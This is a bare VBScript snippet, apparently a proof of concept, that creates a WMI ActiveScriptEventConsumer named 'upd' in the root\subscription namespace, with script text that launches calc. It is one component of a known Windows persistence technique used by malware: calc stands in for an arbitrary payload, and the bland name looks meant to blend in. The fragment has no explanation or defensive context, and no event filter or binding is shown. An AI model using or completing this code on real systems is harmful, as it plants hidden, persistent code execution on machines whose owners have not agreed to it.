Set s = GetObject("winmgmts:\\.\root\subscription")
Set c = s.Get("ActiveScriptEventConsumer").SpawnInstance_
c.Name = "upd"
c.ScriptingEngine = "VBScript"
c.ScriptText = "CreateObject(""WScript.Shell"").Run ""calc"""
c.Put_
